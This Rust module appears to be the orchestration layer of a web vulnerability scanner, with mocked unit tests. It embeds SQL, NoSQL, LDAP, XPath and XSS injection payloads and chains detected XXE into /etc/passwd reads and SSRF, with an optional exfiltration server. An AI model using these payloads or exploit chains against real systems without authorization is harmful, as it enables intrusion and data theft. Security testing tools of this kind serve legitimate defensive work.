//! Scan orchestration: drives the per-class analyzers over curated
//! parameter test cases and collects positives into a [`Report`].

use std::collections::BTreeMap;

use anyhow::Result;
use reqwest::header::{HeaderMap, CONTENT_TYPE};
use tracing::info;
use url::Url;

use crate::analyzers::{
    AnalysisResult, CsrfAnalyzer, ProbeTarget, SqlInjectionAnalyzer, XssAnalyzer, XxeAnalyzer,
};
use crate::http::client::Transport;
use crate::report::Report;

/// Vulnerability classes a scan can be scoped to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum VulnerabilityClass {
    Xss,
    SqlInjection,
    Xxe,
    Csrf,
    All,
}

/// Commonly vulnerable parameter names probed for XSS, grouped by the kind
/// of surface they usually appear on.
const XSS_TEST_CASES: &[&[(&str, &str)]] = &[
    &[("q", "test"), ("search", "test"), ("query", "test")],
    &[("id", "1"), ("user_id", "1"), ("product_id", "1")],
    &[("name", "test"), ("title", "test"), ("description", "test")],
    &[("comment", "test"), ("message", "test"), ("content", "test")],
    &[("url", "http://example.com"), ("redirect", "/home"), ("callback", "function")],
    &[("filter", "all"), ("sort", "name"), ("order", "asc")],
    &[("email", "test@example.com"), ("phone", "123456789"), ("address", "test address")],
];

const SQL_TEST_CASES: &[&[(&str, &str)]] = &[
    &[("id", "1"), ("user_id", "1"), ("product_id", "1")],
    &[("username", "admin"), ("password", "password"), ("email", "admin@example.com")],
    &[("search", "test"), ("category", "electronics"), ("brand", "samsung")],
    &[("order_by", "name"), ("limit", "10"), ("offset", "0")],
    &[("start_date", "2023-01-01"), ("end_date", "2023-12-31"), ("year", "2023")],
    &[("status", "active"), ("type", "premium"), ("role", "user")],
    &[("country", "US"), ("city", "New York"), ("zip", "10001")],
    &[("api_key", "test123"), ("token", "abc123"), ("session_id", "sess123")],
];

const FORM_TEST_CASES: &[&[(&str, &str)]] = &[
    &[("name", "test"), ("firstname", "John"), ("lastname", "Doe")],
    &[("email", "test@example.com"), ("phone", "123-456-7890"), ("address", "123 Main St")],
    &[("comment", "test comment"), ("message", "test message"), ("feedback", "test feedback")],
    &[("bio", "test bio"), ("description", "test description"), ("about", "test about")],
    &[("title", "test title"), ("subject", "test subject"), ("topic", "test topic")],
    &[("search_query", "test"), ("keywords", "test keywords"), ("tags", "test,tags")],
    &[("website", "http://example.com"), ("profile_url", "http://profile.com"), ("social_link", "http://social.com")],
    &[("filename", "test.txt"), ("file_description", "test file"), ("upload_notes", "test notes")],
    &[("event_name", "test event"), ("event_description", "test event desc"), ("location", "test location")],
    &[("product_name", "test product"), ("product_description", "test desc"), ("price", "99.99")],
];

const API_TEST_CASES: &[&[(&str, &str)]] = &[
    &[("api_key", "test123"), ("token", "bearer_token"), ("auth", "admin")],
    &[("user_id", "1"), ("account_id", "123"), ("customer_id", "456")],
    &[("filter", "active"), ("search", "test"), ("query", "SELECT * FROM users")],
    &[("page", "1"), ("limit", "10"), ("sort", "name"), ("order", "ASC")],
    &[("config", "production"), ("env", "dev"), ("debug", "true")],
    &[("file_id", "123"), ("resource", "users"), ("path", "/etc/passwd")],
    &[("start_date", "2023-01-01"), ("end_date", "2023-12-31"), ("timestamp", "1234567890")],
    &[("format", "json"), ("callback", "jsonp_callback"), ("output", "xml")],
];

/// Named payload sweeps for the focused SQL analysis mode.
const ADVANCED_SQL_TESTS: &[(&str, &[(&str, &str)])] = &[
    ("Error-based", &[("id", "1' AND (SELECT * FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a) AND '1'='1")]),
    ("Union-based", &[("id", "1' UNION SELECT 1,2,3,4,5,6,7,8,9,10--")]),
    ("Boolean-blind", &[("id", "1' AND (SELECT SUBSTRING(@@version,1,1))='5'--")]),
    ("Time-blind", &[("id", "1'; WAITFOR DELAY '00:00:05'--")]),
    ("Second-order", &[("username", "admin'--"), ("password", "password")]),
    ("NoSQL", &[("id", "1'; return true; var x='")]),
    ("LDAP", &[("user", "*)(uid=*))(|(uid=*")]),
    ("XPath", &[("search", "' or '1'='1' or ''='")]),
];

const ADVANCED_XSS_TESTS: &[(&str, &[(&str, &str)])] = &[
    ("HTML-encoded", &[("input", "&lt;script&gt;alert(1)&lt;/script&gt;")]),
    ("URL-encoded", &[("input", "%3Cscript%3Ealert(1)%3C/script%3E")]),
    ("Hex-encoded", &[("input", "\\x3Cscript\\x3Ealert(1)\\x3C/script\\x3E")]),
    ("Attribute-based", &[("input", "\" onmouseover=\"alert(1)\" x=\"")]),
    ("Event-based", &[("input", "<img src=x onerror=alert(1)>")]),
    ("SVG-based", &[("input", "<svg onload=alert(1)>")]),
    ("CSS-based", &[("input", "<style>@import'javascript:alert(1)';</style>")]),
    ("DOM-based", &[("fragment", "#<script>alert(1)</script>")]),
    ("Filter-bypass", &[("input", "<ScRiPt>alert(String.fromCharCode(88,83,83))</ScRiPt>")]),
];

fn params_of(case: &[(&str, &str)]) -> BTreeMap<String, String> {
    case.iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

pub struct SecurityAnalyzer<T> {
    transport: T,
    exfiltration_server: Option<String>,
}

impl<T: Transport> SecurityAnalyzer<T> {
    pub fn new(transport: T) -> Self {
        Self {
            transport,
            exfiltration_server: None,
        }
    }

    pub fn set_exfiltration_server(&mut self, server_url: impl Into<String>) {
        self.exfiltration_server = Some(server_url.into());
    }

    fn xxe_analyzer(&self) -> XxeAnalyzer<'_, T> {
        let mut analyzer = XxeAnalyzer::new(&self.transport);
        if let Some(server) = &self.exfiltration_server {
            analyzer.set_exfiltration_server(server.clone());
        }
        analyzer
    }

    fn wants(classes: &[VulnerabilityClass], class: VulnerabilityClass) -> bool {
        classes.contains(&VulnerabilityClass::All) || classes.contains(&class)
    }

    /// Full scan of a URL, scoped to the requested vulnerability classes.
    pub async fn analyze_target(
        &self,
        url: &Url,
        classes: &[VulnerabilityClass],
    ) -> Result<Report> {
        let mut report = Report::new(url.as_str());

        if Self::wants(classes, VulnerabilityClass::Xss) {
            let analyzer = XssAnalyzer::new(&self.transport);
            for case in XSS_TEST_CASES {
                let target = ProbeTarget::with_params(url.clone(), params_of(case));
                push_if_positive(&mut report.xss_results, analyzer.detect(&target).await?);
            }
            let page_target = ProbeTarget::new(url.clone());
            push_if_positive(
                &mut report.xss_results,
                analyzer.detect_dom_based(&page_target).await?,
            );
        }

        if Self::wants(classes, VulnerabilityClass::Xxe) {
            push_if_positive(
                &mut report.xxe_results,
                self.xxe_analyzer().detect(url).await?,
            );
        }

        if Self::wants(classes, VulnerabilityClass::SqlInjection) {
            let analyzer = SqlInjectionAnalyzer::new(&self.transport);
            for case in SQL_TEST_CASES {
                let target = ProbeTarget::with_params(url.clone(), params_of(case));
                push_if_positive(&mut report.sql_results, analyzer.detect(&target).await?);
            }
        }

        if Self::wants(classes, VulnerabilityClass::Csrf) {
            let analyzer = CsrfAnalyzer::new(&self.transport);
            push_if_positive(&mut report.csrf_results, analyzer.detect(url).await?);
        }

        report.update_statistics();
        info!(
            target_url = %url,
            total = report.statistics.total_vulnerabilities,
            "target scan finished"
        );
        Ok(report)
    }

    /// Scan a page carrying a form: CSRF protection plus XSS through typical
    /// form field names.
    pub async fn analyze_form(&self, url: &Url) -> Result<Report> {
        let mut report = Report::new(url.as_str());

        let csrf = CsrfAnalyzer::new(&self.transport);
        push_if_positive(&mut report.csrf_results, csrf.detect(url).await?);

        let xss = XssAnalyzer::new(&self.transport);
        for case in FORM_TEST_CASES {
            let target = ProbeTarget::with_params(url.clone(), params_of(case));
            push_if_positive(&mut report.xss_results, xss.detect(&target).await?);
        }

        report.update_statistics();
        Ok(report)
    }

    /// Scan an XML-consuming endpoint; a confirmed XXE is followed by file
    /// read and SSRF exploitation attempts.
    pub async fn analyze_xml_endpoint(&self, url: &Url) -> Result<Report> {
        let mut report = Report::new(url.as_str());
        let analyzer = self.xxe_analyzer();

        let detected = analyzer.detect(url).await?;
        if detected.vulnerable {
            report.xxe_results.push(detected);
            push_if_positive(
                &mut report.xxe_results,
                analyzer.exploit_file_read(url, "/etc/passwd").await?,
            );
            push_if_positive(
                &mut report.xxe_results,
                analyzer.exploit_ssrf(url, "http://localhost:8080").await?,
            );
        }

        report.update_statistics();
        Ok(report)
    }

    /// Scan an API endpoint: SQLi (with follow-up fingerprinting, extraction
    /// and blind probing), XSS, and content-type-gated XXE/JSONP checks.
    pub async fn analyze_api_endpoint(
        &self,
        url: &Url,
        params: &BTreeMap<String, String>,
        headers: &HeaderMap,
    ) -> Result<Report> {
        let mut report = Report::new(url.as_str());

        let mut cases: Vec<BTreeMap<String, String>> = vec![params.clone()];
        cases.extend(API_TEST_CASES.iter().map(|case| params_of(case)));

        let sql = SqlInjectionAnalyzer::new(&self.transport);
        for case in &cases {
            let target = ProbeTarget::with_params(url.clone(), case.clone());
            let result = sql.detect(&target).await?;
            if result.vulnerable {
                report.sql_results.push(result);
                if let Some(vulnerable_param) = case.keys().next() {
                    let db = sql.fingerprint_database(&target, vulnerable_param).await?;
                    push_if_positive(
                        &mut report.sql_results,
                        sql.extract_database_info(&target, vulnerable_param, db)
                            .await?,
                    );
                    push_if_positive(&mut report.sql_results, sql.detect_blind(&target).await?);
                }
            }
        }

        let xss = XssAnalyzer::new(&self.transport);
        for case in &cases {
            let target = ProbeTarget::with_params(url.clone(), case.clone());
            push_if_positive(&mut report.xss_results, xss.detect(&target).await?);
        }

        let content_type = headers
            .get(CONTENT_TYPE)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default();

        if content_type.contains("xml") {
            let analyzer = self.xxe_analyzer();
            let detected = analyzer.detect(url).await?;
            if detected.vulnerable {
                report.xxe_results.push(detected);
                push_if_positive(
                    &mut report.xxe_results,
                    analyzer.exploit_file_read(url, "/etc/passwd").await?,
                );
            }
        }

        if content_type.contains("javascript") || params.contains_key("callback") {
            let jsonp = ProbeTarget::with_params(
                url.clone(),
                BTreeMap::from([("callback".to_string(), "alert(1)".to_string())]),
            );
            push_if_positive(&mut report.xss_results, xss.detect(&jsonp).await?);
        }

        report.update_statistics();
        Ok(report)
    }

    /// Focused SQL injection sweep using named technique payloads.
    pub async fn advanced_sql_analysis(&self, url: &Url) -> Result<Report> {
        let mut report = Report::new(url.as_str());
        let sql = SqlInjectionAnalyzer::new(&self.transport);
        for (technique, case) in ADVANCED_SQL_TESTS {
            let target = ProbeTarget::with_params(url.clone(), params_of(case));
            let mut result = sql.detect(&target).await?;
            if result.vulnerable {
                result.vulnerability_type = format!("{technique} SQL Injection");
                report.sql_results.push(result);
            }
        }
        report.update_statistics();
        Ok(report)
    }

    /// Focused XSS sweep using named evasion technique payloads.
    pub async fn advanced_xss_analysis(&self, url: &Url) -> Result<Report> {
        let mut report = Report::new(url.as_str());
        let xss = XssAnalyzer::new(&self.transport);
        for (technique, case) in ADVANCED_XSS_TESTS {
            let target = ProbeTarget::with_params(url.clone(), params_of(case));
            let mut result = xss.detect(&target).await?;
            if result.vulnerable {
                result.vulnerability_type = format!("{technique} XSS");
                report.xss_results.push(result);
            }
        }
        report.update_statistics();
        Ok(report)
    }
}

fn push_if_positive(results: &mut Vec<AnalysisResult>, result: AnalysisResult) {
    if result.vulnerable {
        results.push(result);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::http::testing::{html_response, query_param, MockTransport};

    fn url() -> Url {
        Url::parse("http://target.example/app").unwrap()
    }

    #[tokio::test]
    async fn clean_target_yields_empty_report() {
        let transport = MockTransport::new(|_| html_response("<html><body>ok</body></html>"));
        let analyzer = SecurityAnalyzer::new(transport);
        let report = analyzer
            .analyze_target(&url(), &[VulnerabilityClass::All])
            .await
            .unwrap();
        assert!(!report.vulnerabilities_found());
        assert_eq!(report.statistics.total_vulnerabilities, 0);
    }

    #[tokio::test]
    async fn scoping_skips_other_classes() {
        // reflects query params unescaped, so XSS would fire if probed
        let transport = MockTransport::new(|req| {
            let echoed: String = req
                .url
                .query_pairs()
                .map(|(_, v)| v.into_owned())
                .collect::<Vec<_>>()
                .join(" ");
            html_response(&format!("<html><body>{echoed}</body></html>"))
        });
        let analyzer = SecurityAnalyzer::new(transport);
        let report = analyzer
            .analyze_target(&url(), &[VulnerabilityClass::Csrf])
            .await
            .unwrap();
        assert!(report.xss_results.is_empty());
        assert!(report.sql_results.is_empty());
    }

    #[tokio::test]
    async fn xss_positives_land_in_report_with_statistics() {
        let transport = MockTransport::new(|req| {
            let echoed: String = req
                .url
                .query_pairs()
                .map(|(_, v)| v.into_owned())
                .collect::<Vec<_>>()
                .join(" ");
            html_response(&format!("<html><body>{echoed}</body></html>"))
        });
        let analyzer = SecurityAnalyzer::new(transport);
        let report = analyzer
            .analyze_target(&url(), &[VulnerabilityClass::Xss])
            .await
            .unwrap();
        // one positive per test-case set, each short-circuited on its first payload
        assert_eq!(report.xss_results.len(), XSS_TEST_CASES.len());
        assert_eq!(
            report.statistics.total_vulnerabilities,
            report.xss_results.len()
        );
    }

    #[tokio::test]
    async fn xml_endpoint_chains_exploits_after_detection() {
        let transport = MockTransport::new(|req| {
            let sent = String::from_utf8_lossy(req.body.as_deref().unwrap_or_default()).to_string();
            if sent.contains("file:///etc/passwd") {
                html_response("<response>root:x:0:0:root:/root:/bin/bash</response>")
            } else if sent.contains("http://localhost:8080") {
                html_response("<response>Internal server data</response>")
            } else {
                html_response("<response>No data leaked</response>")
            }
        });
        let analyzer = SecurityAnalyzer::new(transport);
        let report = analyzer.analyze_xml_endpoint(&url()).await.unwrap();
        // detection, file read, and SSRF all land
        assert_eq!(report.xxe_results.len(), 3);
        assert_eq!(report.statistics.critical_vulnerabilities, 3);
    }

    #[tokio::test]
    async fn api_scan_gates_jsonp_on_callback_param() {
        let transport = MockTransport::new(|req| {
            // only the JSONP callback parameter reflects executably
            if let Some(cb) = query_param(req, "callback") {
                if cb.contains("alert") {
                    return html_response(&format!("<script>{cb}</script>"));
                }
            }
            html_response("<html><body>ok</body></html>")
        });
        let analyzer = SecurityAnalyzer::new(transport);
        let params = BTreeMap::from([("callback".to_string(), "handler".to_string())]);
        let report = analyzer
            .analyze_api_endpoint(&url(), &params, &HeaderMap::new())
            .await
            .unwrap();
        assert!(!report.xss_results.is_empty());
    }
}
